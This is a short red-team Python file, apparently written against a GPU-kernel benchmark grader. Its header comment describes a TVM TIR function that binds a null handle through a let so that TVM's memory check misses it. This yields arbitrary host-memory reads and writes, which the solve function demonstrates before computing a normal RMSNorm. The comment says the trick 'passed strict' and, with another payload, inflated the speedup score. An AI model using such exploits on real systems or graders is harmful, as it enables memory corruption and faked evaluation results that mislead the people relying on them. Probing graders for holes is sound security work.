# Attack (red team, thirteenth session, round 3): TIR host code reads any address through a
# buffer over a handle parameter no buffer matches (the caller passes None: null), rebound by a let
# that TVM's memory check does not follow, indexed at the address / 8; passed strict (and, with the
# signal-table payload, 5.8x). Refused where tvm.compile is asked: a handle parameter no buffer
# matches, and a handle bound by a let (runtime.native_code).
import torch
import tvm
from tvm.script import tirx as T


@T.prim_func
def peek(p: T.handle("int64"), addr: T.int64, dst: T.int64):
    p2: T.let[T.handle("int64")] = p
    B = T.decl_buffer((1,), "int64", data=p2)
    B[dst // 8] = B[addr // 8]


_OUT = torch.zeros(1, dtype=torch.int64)
_F = {}


def solve(x, residual, weight):
    if not _F:
        _F["peek"] = tvm.compile(peek, target="cuda")
    probe = object()
    _F["peek"](None, id(probe) + 8, _OUT.data_ptr())
    if int(_OUT[0]) != id(object):
        raise RuntimeError("the host read did not land")
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)
